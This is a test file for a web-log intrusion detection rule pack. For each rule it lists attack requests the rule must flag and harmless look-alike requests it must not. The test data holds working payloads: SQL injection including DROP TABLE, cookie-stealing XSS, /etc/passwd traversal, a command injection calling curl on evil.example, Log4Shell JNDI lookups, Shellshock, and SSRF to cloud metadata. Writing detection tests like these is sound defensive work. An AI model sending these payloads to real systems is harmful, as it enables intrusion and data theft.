// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attack payloads are ${…} lookups on purpose, not templates.
// Every rule of the shipped pack (resources/rules) on requests it must flag and on look-alike
// ordinary requests it must not, through the compiled engine and through the plain per-rule
// reference evaluator (core/rules/reference.ts), which must agree. A rule added to the pack without
// cases here fails the first test.
import { describe, expect, it } from 'vitest';
import {
  compileRules,
  evaluateRecords,
  loadRulePack,
  type RequestRecord,
} from '../../../src-main/core/rules/index.js';
import { referenceEvaluate } from '../../../src-main/core/rules/reference.js';

const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36';
const get = (target: string, more: RequestRecord = {}): RequestRecord => {
  const [path, query] = target.split('?', 2);
  return { method: 'GET', path, query: query ?? null, userAgent: BROWSER, responseCode: 200, ...more };
};

/** Per rule title: requests it flags, and ordinary requests it leaves alone. */
const CASES: Record<string, { hits: RequestRecord[]; misses: RequestRecord[] }> = {
  'SQL injection in a web request': {
    hits: [
      get('/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--'),
      get("/login?user=admin'+or+'1'='1"),
      get('/p?id=1+union+all+select+null,null'),
      get('/list?sort=name%27%20AND%20SLEEP(5)--'),
      // Boolean probes, column counting, stacked and blind queries (sqlmap's shapes).
      get('/p?product=1188+OR+8516=8516--+'),
      get('/p?product=1188)+AND+9966=9966+AND+(9973=9973'),
      get('/p?product=1188"))+ORDER+BY+12--+'),
      get('/p?product=1188)/**/ORDER/**/BY/**/9/*'),
      get("/p?product=1188');+SELECT+user()%23"),
      get('/p?product=1188"));+DROP+TABLE+orders--+'),
      get("/p?product=1188'+AND+ASCII(SUBSTRING((SELECT+system_user()),7,1))>112--+"),
      get("/p?product=1188')/**/OR/**/'2640'='2640"),
      // Encoded twice, and every byte encoded: matched as the server decodes them.
      get('/p?product=1188%2527%2520OR%2520%25271%2527%253D%25271'),
      get('/p?product=%31%31%38%38%20%4F%52%44%45%52%20%42%59%20%33%2D%2D%2B'),
    ],
    misses: [
      get('/search?q=credit+union+select+account'),
      get('/blog/how-to-select-a-union-rep'),
      get("/search?q=o'reilly+books"),
      get('/help?topic=order+by+date'),
      get('/blog/10-ways-to-order-by-size'),
      get('/search?q=size+10+or+12=fit'),
      get('/search?q=rock+and+roll+1+and+2'),
    ],
  },
  'Cross-site scripting in a web request': {
    hits: [
      get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E'),
      get('/p?x=%22%20onerror%3Dalert(1)'),
      get('/go?url=javascript:alert(document.cookie)'),
      get('/', { userAgent: '<script>alert(1)</script>' }),
      get('/search?q=jacket%253Cinput%2520autofocus%2520onfocus%253Dalert(1)%253E'),
    ],
    misses: [
      get('/recaptcha/api.js?onload=onloadCallback&render=explicit'),
      get('/docs/javascript-tutorial'),
    ],
  },
  'Path traversal in a web request': {
    hits: [
      get('/static/../../../etc/passwd'),
      get('/download?file=..%2f..%2fconfig'),
      get('/a/%2e%2e%2f%2e%2e%2fb'),
    ],
    misses: [get('/docs/chapter.2/section..html'), get('/images/logo.png')],
  },
  'Local file inclusion of system files or stream wrappers': {
    hits: [
      get('/index.php?page=/etc/passwd'),
      get('/index.php?page=php://filter/convert.base64-encode/resource=index'),
      get('/view?f=C:/Windows/win.ini'),
    ],
    misses: [get('/blog/securing-your-server'), get('/index.php?page=about')],
  },
  'OS command injection in a web request': {
    hits: [
      get('/ping?host=8.8.8.8;cat%20/etc/hosts'),
      get('/cgi?x=%7C%20whoami'),
      get('/run?c=$(curl%20evil.example)'),
      // A line break sent twice encoded, a lone & before a command, a command split by quotes.
      get('/api/v1/stock?sku=1042-M%250Aid'),
      get('/api/v1/stock?sku=1042-M%2526whoami'),
      get("/api/v1/stock?sku=1042-M%2526%2526s''leep%25205"),
      get("/api/v1/stock?sku=1042-M%253bl''s%2520-la"),
    ],
    misses: [
      get('/search?q=dog|cat+food'),
      get('/api/items;jsessionid=abc123'),
      get('/products?sort=id'),
      get('/p?a=1&id=5'),
      get('/p?a=1&ls=2'),
      get("/guests?name=o''brien"),
    ],
  },
  'Server-side template injection in a web request': {
    hits: [get('/hello?name={{7*7}}'), get('/hello?name=%7B%7B7*7%7D%7D'), get('/x?t=${7*7}')],
    misses: [get('/docs/templates?lang=jinja'), get('/cart?qty=7')],
  },
  'JNDI lookup injection (Log4Shell) in a web request': {
    hits: [
      get('/?x=${jndi:ldap://203.0.113.66/a}'),
      get('/', { userAgent: '${jndi:ldap://203.0.113.66/Exploit}' }),
      get('/?x=%24%7Bjndi:rmi://203.0.113.66/a%7D'),
    ],
    misses: [get('/docs/jndi-naming-guide'), get('/?q=java+naming')],
  },
  'Web shell file requested': {
    hits: [get('/wp-content/uploads/2024/02/x.php'), get('/c99.php'), get('/images/shell.aspx')],
    misses: [get('/wp-content/uploads/2024/02/photo.jpg'), get('/index.php'), get('/shellfish.php')],
  },
  'Vulnerability scanner or attack tool user agent': {
    hits: [
      get('/', { userAgent: 'sqlmap/1.8#stable (https://sqlmap.org)' }),
      get('/', { userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' }),
      get('/', { userAgent: 'Hello, world' }),
    ],
    misses: [
      get('/', { userAgent: BROWSER }),
      get('/', { userAgent: 'curl/8.5.0' }),
      get('/', { userAgent: 'Hello, world! (my home-made RSS reader)' }),
    ],
  },
  'Probe for the endpoint of a widely exploited vulnerability': {
    hits: [
      get('/_ignition/execute-solution', { method: 'POST', responseCode: 404 }),
      get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
      get('/+CSCOE+/logon.html'),
    ],
    misses: [get('/docs/hnap-protocol'), get('/solr/search?q=x'), get('/setup-guide.html')],
  },
  'Probe for configuration, secret or source-control files': {
    hits: [get('/.env'), get('/.git/config'), get('/blog/wp-config.php.bak')],
    misses: [get('/environment.html'), get('/docs/git-guide')],
  },
  'Administration console probed and not found or refused': {
    hits: [get('/phpmyadmin/index.php', { responseCode: 404 }), get('/wp-login.php', { responseCode: 403 })],
    misses: [
      get('/wp-login.php', { responseCode: 200 }),
      get('/products/admin-guide', { responseCode: 404 }),
    ],
  },
  'Shellshock function definition in a request header or target': {
    hits: [
      get('/cgi-bin/status', { userAgent: '() { :; }; /bin/bash -c "id"' }),
      get('/cgi-bin/x?%28%29%20%7b%20:;%20%7d'),
    ],
    misses: [get('/', { userAgent: BROWSER }), get('/api/call?fn=(x)')],
  },
  'Server-side request forgery towards cloud metadata or local services': {
    hits: [
      get('/fetch?url=http://169.254.169.254/latest/meta-data/iam/'),
      get('/proxy?u=gopher://127.0.0.1:6379/_INFO'),
    ],
    misses: [get('/fetch?url=https://example.com/logo.png'), get('/docs/metadata')],
  },
};

const pack = loadRulePack();
const compiled = compileRules(pack.rules);

const titlesHit = (record: RequestRecord) => evaluateRecords(compiled, [record]).map((hit) => hit.title);
const referenceTitles = (record: RequestRecord) =>
  referenceEvaluate(pack.rules, [record]).map(
    (hit) => pack.rules.find((rule) => rule.id === hit.ruleId)?.title,
  );

describe('the shipped rule pack', () => {
  it('loads every rule (none refused), each with an id, a level, ATT&CK tags and false positives', () => {
    expect(pack.refused).toEqual([]);
    expect(pack.rules.map((rule) => rule.title).sort()).toEqual(Object.keys(CASES).sort());
    for (const rule of pack.rules) {
      expect(rule.id, rule.title).toMatch(/^[0-9a-f-]{36}$/);
      expect(
        rule.tags.some((tag) => /^attack\.t\d{4}/.test(tag)),
        rule.title,
      ).toBe(true);
      expect(rule.falsepositives.length, rule.title).toBeGreaterThan(0);
    }
  });

  for (const [title, { hits, misses }] of Object.entries(CASES)) {
    it(`${title}: flags the attacks and leaves the look-alikes`, () => {
      for (const record of hits) {
        expect(titlesHit(record), JSON.stringify(record)).toContain(title);
        expect(referenceTitles(record), JSON.stringify(record)).toContain(title);
      }
      for (const record of misses) {
        expect(titlesHit(record), JSON.stringify(record)).not.toContain(title);
        expect(referenceTitles(record), JSON.stringify(record)).not.toContain(title);
      }
    });
  }

  it('says which field matched and what part of it, for highlighting', () => {
    const [hit] = evaluateRecords(compiled, [get('/index.php?page=/etc/passwd')]);
    expect(hit).toMatchObject({
      field: 'query',
      title: 'Local file inclusion of system files or stream wrappers',
    });
    expect(hit?.value?.toLowerCase()).toContain('/etc/passwd');
    // A payload sent twice encoded matches once decoded, and is shown in that spelling: the one
    // the drawer's decoded request line has (not a slice of the logged text that holds no match).
    const [encoded] = evaluateRecords(compiled, [
      get('/p?product=1188%2527%2520OR%2520%25271%2527%253D%25271'),
    ]);
    expect(encoded).toMatchObject({ field: 'query', title: 'SQL injection in a web request' });
    expect(encoded?.value).toBe('%27%20OR%20%271%27%3D');
  });
});
